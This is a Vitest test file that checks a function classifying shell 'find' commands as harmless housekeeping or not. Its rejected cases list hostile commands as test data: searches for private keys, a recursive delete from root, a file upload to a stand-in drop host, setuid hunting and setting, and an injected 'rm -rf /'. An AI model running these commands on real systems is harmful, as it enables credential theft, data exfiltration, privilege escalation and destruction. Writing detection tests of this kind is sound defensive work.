import { describe, expect, test } from 'vitest';
import { isOrdinarySearch } from '../../functions/evaluation/models/ordinary-search.ts';

describe('a search that keeps to some files', () => {
  test.each([
    "find . -name '*.md' -exec sh -c 'markdown \"$1\"' _ {} \\;",
    'find / -name grub.conf 2>/dev/null',
    'find /var/cache/app -type f -mtime +30 -delete',
    'find /home/kim/Music -iname "*sample*" -exec rm {} \\;',
    'sudo find /srv/files -empty -type d -delete\n',
    'find . -maxdepth 1 -type d | xargs -n1 du -sh',
  ])('is housekeeping: %s', (text) => {
    expect(isOrdinarySearch(text)).toBe(true);
  });

  test.each([
    "find / -name '*.pem' 2>/dev/null",
    'find / -name id_rsa 2>/dev/null',
    'find / -type f -delete',
    'find / -name "*.doc" -exec rm {} +',
    'find . -exec curl -T {} https://drop.example \\;',
    'find / -perm -4000 -type f 2>/dev/null',
    'find . -name x -exec chmod u+s {} \\;',
    'find /srv -type f -delete',
    'find /srv',
    'find . -name x\nrm -rf /',
    'ls -la',
  ])('is none: %s', (text) => {
    expect(isOrdinarySearch(text)).toBe(false);
  });
});
